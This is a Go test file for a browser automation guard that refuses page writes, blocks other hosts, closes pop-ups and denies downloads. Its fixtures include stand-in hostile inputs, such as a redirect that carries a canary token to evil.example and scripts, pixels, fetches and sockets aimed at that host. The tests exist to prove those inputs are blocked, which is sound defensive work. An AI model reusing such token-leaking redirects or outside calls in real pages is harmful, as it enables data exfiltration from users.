package automation

import (
	"compress/gzip"
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"
	"github.com/plexpriv/plexpriv/automation/judge"
)

const workerScript = `
const NAME = location.search.slice(1);
fetch("/write/worker-" + NAME, {method: "POST", body: "x"}).catch(() => {});
fetch("/write/keepalive-" + NAME, {method: "POST", body: "x", keepalive: true}).catch(() => {});
try { new WebSocket("wss://www.plex.tv/write/socket-" + NAME); } catch {}
fetch("/read/worker-" + NAME).catch(() => {});
`

// writingSite serves a page that tries every way to write.
func writingSite(t *testing.T) *netSite {
	t.Helper()
	pageText, err := os.ReadFile("testdata/net_writes.html")
	if err != nil {
		t.Fatal(err)
	}
	return newNetSite(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h := w.Header()
		switch r.URL.Path {
		case "/page.html":
			h.Set("Content-Type", "text/html; charset=utf-8")
			// A policy of the page's own must still apply.
			h.Set("Content-Security-Policy", "object-src 'none'")
			h.Set("Reporting-Endpoints", `default="https://www.plex.tv/write/report"`)
			h.Add("Set-Cookie", "first=1; HttpOnly; Secure")
			h.Add("Set-Cookie", "second=2; Secure")
			h.Set("X-Own", "kept")
			h.Set("Content-Encoding", "gzip")
			z := gzip.NewWriter(w)
			_, _ = z.Write(pageText)
			_ = z.Close()
		case "/child.html":
			h.Set("Content-Type", "text/html")
			fmt.Fprint(w, `<script>const NAME = "child";`+strings.Replace(workerScript, "const NAME = location.search.slice(1);", "", 1)+`</script>`)
		case "/worker.js", "/service.js":
			h.Set("Content-Type", "text/javascript")
			fmt.Fprint(w, workerScript)
		case "/nesting.js":
			h.Set("Content-Type", "text/javascript")
			fmt.Fprint(w, `new Worker("/worker.js?nested");`+workerScript)
		case "/read/events":
			h.Set("Content-Type", "text/event-stream")
			fmt.Fprint(w, "data: hello\n\n")
		default:
			h.Set("Access-Control-Allow-Origin", "*")
			h.Set("Access-Control-Allow-Headers", "Content-Type")
			h.Set("Content-Type", "text/html")
			fmt.Fprint(w, "<title>"+r.URL.Path+"</title>ok")
		}
	}))
}

func readOnlyOptions(s *netSite) Options {
	o := s.options()
	o.ReadOnly = true
	o.Reads.QueryEndpoints = []string{"https://community.plex.tv/api"}
	o.Reads.ActingWords = []string{"sign-out"}
	return o
}

// reads are what a page must get even if nothing may be written.
var reads = []string{
	"/read/fetch", "/read/events", "/read/worker-dedicated", "/read/worker-module", "/read/worker-nested",
	"/read/worker-shared", "/read/worker-blob", "/read/worker-srcdoc", "/read/worker-child", "/read/worker-blob-doc",
}

func isWrite(a arrival) bool {
	return strings.Contains(a.path, "write") || acts(a) && a.host != "community.plex.tv" || strings.Contains(a.body, "mutation") || a.header.Get("Upgrade") != "" ||
		(a.method != "GET" && a.host != "community.plex.tv" && a.method != "OPTIONS")
}

func TestReadOnlyLetsNoWriteArrive(t *testing.T) {
	t.Parallel()
	for name, path := range browsersToTest(t) {
		t.Run(name, func(t *testing.T) {
			s := writingSite(t)
			o := readOnlyOptions(s)
			o.BrowserPath = path
			b := launchBrowser(t, o)
			tab := isolatedTab(t, b)
			open(t, tab, "https://www.plex.tv/page.html")
			for _, path := range reads {
				eventually(t, path+" arrives", func() bool { return s.hasArrived(path) })
			}
			eventually(t, "the query arrives", func() bool {
				return len(s.arrived(func(a arrival) bool { return strings.Contains(a.body, "query Read") })) == 1
			})
			eventually(t, "every other way was tried and refused", func() bool { return refusedAll(b, tried...) })
			if a := s.arrived(func(a arrival) bool { return !strings.HasPrefix(a.header.Get("Accept-Language"), "en-US") }); len(a) > 0 {
				t.Errorf("%s was requested with Accept-Language %q", a[0].path, a[0].header.Get("Accept-Language"))
			}
			// Leaving the page makes it send its beacons.
			open(t, tab, "https://www.plex.tv/read/next")
			eventually(t, "the beacons of a page that goes away are refused", func() bool {
				return refusedAll(b, "/write/pagehide-beacon", "/write/pagehide-keepalive")
			})
			for _, a := range s.arrived(isWrite) {
				t.Errorf("a request that must be refused reached the site: %s %s%s (upgrade %q)", a.method, a.host, a.path, a.header.Get("Upgrade"))
			}
		})
	}
}

// tried are the refusals that must be recorded: they prove that the page tried.
var tried = []string{
	"/write/post", "/write/put", "/write/keepalive", "/write/override", "/write/beacon", "/write/beacon-blob",
	"/write/xhr", "/write/xhr-sync", "/write/ping", "/write/iframe-form", "/users/sign_out", "/service.js",
	"/write/worker-dedicated", "/write/worker-module", "/write/worker-nested", "/write/worker-shared", "/write/worker-blob",
	"/write/worker-srcdoc", "/write/worker-child", "/write/worker-blob-doc", "/write/worker-data-doc", "/api",
}

func refusedAll(b *Browser, paths ...string) bool {
	var seen []string
	for _, r := range b.Refusals() {
		_, path, _ := strings.Cut(strings.TrimPrefix(r.URL, "https://"), "/")
		seen = append(seen, "/"+path)
	}
	for _, p := range paths {
		if !slices.Contains(seen, p) {
			return false
		}
	}
	return true
}

// TestActingLetsWritesArrive shows that the same page does write where it may. Without
// it, the test before could pass because the page is broken.
func TestActingLetsWritesArrive(t *testing.T) {
	t.Parallel()
	s := writingSite(t)
	b := launchBrowser(t, s.options())
	tab := isolatedTab(t, b)
	open(t, tab, "https://www.plex.tv/page.html")
	for _, path := range append([]string{
		"/write/post", "/write/put", "/write/keepalive", "/write/beacon", "/write/beacon-blob", "/write/xhr", "/write/xhr-sync",
		"/write/worker-dedicated", "/write/worker-shared", "/write/socket", "/write/socket-dedicated", "/write/socket-shared",
		"/write/socket-blob", "/write/socket-srcdoc", "/write/socket-child", "/write/socket-nested", "/write/socket-module",
		"/write/socket-blob-doc", "/write/socket-data-doc", "/write/iframe-form", "/write/ping",
		"/users/sign_out?write/image",
	}, reads...) {
		eventually(t, path+" arrives", func() bool { return s.hasArrived(path) })
	}
	if s.hasArrived("/service.js") {
		t.Error("a service worker was registered")
	}
}

func TestReadOnlyLeavesThePageAsItIs(t *testing.T) {
	t.Parallel()
	s := writingSite(t)
	b := launchBrowser(t, readOnlyOptions(s))
	tab := isolatedTab(t, b)
	open(t, tab, "https://www.plex.tv/page.html")
	title, err := chromedp.Run(tab, chromedp.Evaluate[string](`document.title + " " + document.cookie`))
	if err != nil || title != "every way to write second=2" {
		t.Errorf("got %q, %v", title, err)
	}
	own, err := chromedp.Run(tab, chromedp.Evaluate[string](
		`fetch("/page.html").then(r => [r.status, r.headers.get("X-Own"), r.headers.get("Content-Security-Policy")].join())`, chromedp.EvalAwaitPromise))
	if err != nil || own != "200,kept,object-src 'none'" {
		t.Errorf("got %q, %v", own, err)
	}
	cookies := s.arrived(func(a arrival) bool { return a.header.Get("Cookie") == "first=1; second=2" })
	if len(cookies) == 0 {
		t.Error("the cookies were not kept")
	}
	if later, err := chromedp.Run(tab, chromedp.Evaluate[string](`typeof fetchLater`)); err != nil || later != "undefined" {
		t.Errorf("fetchLater is %q, %v: it must be off, because the guard may not see its requests", later, err)
	}
}

func TestReadOnlyRefusesTheNavigationOfAForm(t *testing.T) {
	t.Parallel()
	s := newNetSite(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<form action="/write/form" method="post"><button>Save</button></form>`)
	}))
	b := launchBrowser(t, readOnlyOptions(s))
	tab := isolatedTab(t, b)
	open(t, tab, "https://www.plex.tv/")
	if err := chromedp.Do(tab, chromedp.Click(chromedp.CSS("button"))); err != nil {
		t.Fatal(err)
	}
	eventually(t, "the form is refused", func() bool { return refusedAll(b, "/write/form") })
	r := b.Refusals()[0]
	if r.Method != "POST" || r.ResourceType != "Document" || r.Reason != judge.ReasonWrite || r.FrameID == "" || r.Initiator != "https://www.plex.tv/" {
		t.Errorf("wrong refusal recorded: %+v", r)
	}
	if len(s.arrived(isWrite)) > 0 {
		t.Error("the form reached the site")
	}
}

func TestGuardAllowsOnlyTheHosts(t *testing.T) {
	t.Parallel()
	s := newNetSite(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/away" {
			http.Redirect(w, r, "https://evil.example/phish?token=canary", http.StatusFound)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<title>home</title><script src="https://evil.example/tracker.js?id=canary"></script><img src="https://evil.example/pixel">
<script>fetch("https://evil.example/fetch").catch(() => {}); try { new WebSocket("wss://evil.example/socket") } catch {}</script>`)
	}))
	b := launchBrowser(t, s.options())
	tab := isolatedTab(t, b)
	open(t, tab, "https://www.plex.tv/")
	if err := chromedp.Do(tab, chromedp.Navigate("https://www.plex.tv/away")); err == nil || !strings.Contains(err.Error(), "BLOCKED_BY_CLIENT") {
		t.Errorf("the redirect to another host was not refused: %v", err)
	}
	eventually(t, "the refusals are recorded", func() bool {
		return refusedAll(b, "/tracker.js", "/pixel", "/fetch", "/phish")
	})
	for _, r := range b.Refusals() {
		if strings.Contains(fmt.Sprintf("%+v", r), "canary") {
			t.Errorf("the refusal holds a query: %+v", r)
		}
	}
	for _, a := range s.arrived(func(a arrival) bool { return a.host != "www.plex.tv" }) {
		t.Errorf("a request to another host reached the site: %s%s", a.host, a.path)
	}
	for _, hostport := range s.askedFor() {
		if hostport != "www.plex.tv:443" {
			t.Errorf("the proxy was asked for another host: %s", hostport)
		}
	}
}

func TestGuardUpgradesPlainHTTP(t *testing.T) {
	t.Parallel()
	s := newNetSite(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		if r.URL.Path == "/old" {
			w.Header().Set("Location", "http://www.plex.tv/new?a=b")
			w.WriteHeader(http.StatusFound)
			return
		}
		fmt.Fprint(w, "<title>new</title>")
	}))
	b := launchBrowser(t, s.options())
	tab := isolatedTab(t, b)
	open(t, tab, "https://www.plex.tv/old")
	where, err := chromedp.Run(tab, chromedp.Evaluate[string]("location.href"))
	if err != nil || where != "https://www.plex.tv/new?a=b" {
		t.Errorf("at %q, %v", where, err)
	}
}

func TestPopupsAreClosed(t *testing.T) {
	t.Parallel()
	s := newNetSite(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<title>opener</title>
<button onclick="window.open('/popup-opened'); this.textContent = 'clicked'">open</button>
<a id="blank" href="/popup-blank" target="_blank">blank</a>
<a id="noopener" href="/popup-noopener" target="_blank" rel="noopener noreferrer">noopener</a>`)
	}))
	b := launchBrowser(t, s.options())
	tab := isolatedTab(t, b)
	open(t, tab, "https://www.plex.tv/")
	var opened atomic.Int32
	if err := chromedp.ListenBrowser(tab, func(ev any) {
		if c, ok := ev.(*target.EventTargetCreated); ok && c.TargetInfo.Type == "page" {
			opened.Add(1)
		}
	}); err != nil {
		t.Fatal(err)
	}
	for _, sel := range []string{"button", "#blank", "#noopener"} {
		if err := chromedp.Do(tab, chromedp.Click(chromedp.CSS(sel))); err != nil {
			t.Fatal(err)
		}
	}
	own := chromedp.FromContext(tab).Target.TargetID
	popups := func() (out []*target.Info) {
		infos, err := chromedp.Targets(tab)
		if err != nil {
			t.Fatal(err)
		}
		for _, i := range infos {
			if i.Type == "page" && i.TargetID != own && i.BrowserContextID == chromedp.FromContext(tab).BrowserContextID {
				out = append(out, i)
			}
		}
		return out
	}
	eventually(t, "all pop-ups were opened and are gone", func() bool { return opened.Load() == 3 && len(popups()) == 0 })
	title, err := chromedp.Run(tab, chromedp.Evaluate[string]("document.title"))
	if err != nil || title != "opener" {
		t.Errorf("our own tab was closed or changed: %q, %v", title, err)
	}
}

func TestDownloadsAreDenied(t *testing.T) {
	t.Parallel()
	s := newNetSite(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/file" {
			w.Header().Set("Content-Disposition", `attachment; filename="evil.sh"`)
			fmt.Fprint(w, "echo evil")
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<a href="/file">file</a>`)
	}))
	b := launchBrowser(t, s.options())
	before := filesUnder(t, s.home)
	tab := isolatedTab(t, b)
	if err := b.denyDownloads(t.Context(), chromedp.FromContext(tab).BrowserContextID); err != nil {
		t.Fatal(err)
	}
	open(t, tab, "https://www.plex.tv/")
	if err := chromedp.Do(tab, chromedp.Click(chromedp.CSS("a"))); err != nil {
		t.Fatal(err)
	}
	eventually(t, "the file is asked for", func() bool { return s.hasArrived("/file") })
	if _, err := chromedp.Run(tab, chromedp.Evaluate[string]("document.title")); err != nil {
		t.Error(err)
	}
	if after := filesUnder(t, s.home); !slices.Equal(before, after) {
		t.Errorf("the home directory changed: before %v, after %v", before, after)
	}
	for _, f := range filesUnder(t, b.dir.path) {
		if strings.Contains(f, "evil") {
			t.Errorf("a file was downloaded to %s", f)
		}
	}
}

func TestBlockedImagesKeepSizeAndAltText(t *testing.T) {
	t.Parallel()
	s := newNetSite(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<title>images</title><img id="sized" width="40" height="30" src="/a.png"><button><img id="named" alt="Save" src="/b.png"></button>`)
	}))
	o := s.options()
	o.BlockResources = true
	b := launchBrowser(t, o)
	tab := isolatedTab(t, b)
	open(t, tab, "https://www.plex.tv/")
	// The text that stands for an image is drawn after its request was refused.
	eventually(t, "the size and the text of refused images", func() bool {
		size, err := chromedp.Run(tab, chromedp.Evaluate[string](
			`[sized.getBoundingClientRect().width, sized.getBoundingClientRect().height, named.getBoundingClientRect().width > 10].join()`))
		return err == nil && size == "40,30,true"
	})
	if s.hasArrived("/a.png") || s.hasArrived("/b.png") {
		t.Error("images were loaded")
	}
	if n := len(b.Refusals()); n != 0 {
		t.Errorf("%d refusals recorded for images", n)
	}
}

// TestSignInWindow uses OpenNet behind a proxy that requires a password: every host may
// be contacted, nothing is refused, and a page may open windows.
func TestSignInWindow(t *testing.T) {
	s := newNetSite(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<title>`+r.Host+`</title><button onclick="window.open('https://evil.example/popup')">go</button>`)
	}))
	s.wantAuth = "Basic bWU6c2VjcmV0" // me:secret
	s.proxyURL.User = url.UserPassword("me", "secret")
	o := s.options()
	o.OpenNet = true
	b := launchBrowser(t, o)
	tab := isolatedTab(t, b)
	open(t, tab, "https://evil.example/")
	title, err := chromedp.Run(tab, chromedp.Evaluate[string]("document.title"))
	if err != nil || title != "evil.example" {
		t.Fatalf("got %q, %v", title, err)
	}
	if _, err := chromedp.Run(tab, chromedp.Evaluate[string](`fetch("/post", {method: "POST"}).then(r => "" + r.status)`, chromedp.EvalAwaitPromise)); err != nil {
		t.Error(err)
	}
	if err := chromedp.Do(tab, chromedp.Click(chromedp.CSS("button"))); err != nil {
		t.Fatal(err)
	}
	eventually(t, "the window loads", func() bool { return s.hasArrived("/popup") })
	infos, err := chromedp.Targets(tab)
	if err != nil {
		t.Fatal(err)
	}
	if !slices.ContainsFunc(infos, func(i *target.Info) bool { return strings.HasSuffix(i.URL, "/popup") }) {
		t.Error("the window was closed")
	}
}

// TestGuardWhenTheBrowserDies: no call may wait for a browser that is gone.
func TestGuardWhenTheBrowserDies(t *testing.T) {
	t.Parallel()
	hold := make(chan struct{})
	s := newNetSite(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/hangs" {
			<-hold
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<script>for (let i = 0; i < 50; i++) fetch("/hangs?" + i)</script>`)
	}))
	t.Cleanup(func() { close(hold) })
	b := launchBrowser(t, readOnlyOptions(s))
	tab := isolatedTab(t, b)
	open(t, tab, "https://www.plex.tv/")
	if err := chromedp.FromContext(b.Context()).Browser.Process().Kill(); err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() {
		_, err := chromedp.Run(tab, chromedp.Evaluate[string]("document.title"))
		done <- err
	}()
	select {
	case err := <-done:
		if err == nil {
			t.Error("a call to a dead browser succeeded")
		}
	case <-time.After(20 * time.Second):
		t.Fatal("a call to a dead browser does not return")
	}
	if _, err := b.NewIsolate(t.Context(), SiteState{}); err != ErrBrowserGone || !errors.Is(err, ErrCrashed) {
		t.Errorf("a new context in a dead browser: %v, want %v", err, ErrBrowserGone)
	}
	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
	defer cancel()
	if err := b.Close(ctx); err != nil {
		t.Error(err)
	}
}

// open goes to an address and waits for its document.
func open(t *testing.T, tab context.Context, address string) {
	t.Helper()
	if failed := navigate(t, tab, address); failed != "" {
		t.Fatalf("open %s: %s", address, failed)
	}
	eventually(t, address+" is there", func() bool {
		state, err := chromedp.Run(tab, chromedp.Evaluate[string]("document.readyState"))
		return err == nil && state != "loading"
	})
}

// navigate goes to an address and returns the browser's error; empty if a document
// came.
func navigate(t *testing.T, tab context.Context, address string) string {
	t.Helper()
	res, err := chromedp.Call(tab, page.Navigate, page.NavigateParams{URL: address})
	if err != nil {
		t.Fatalf("open %s: %v", address, err)
	}
	return res.ErrorText
}
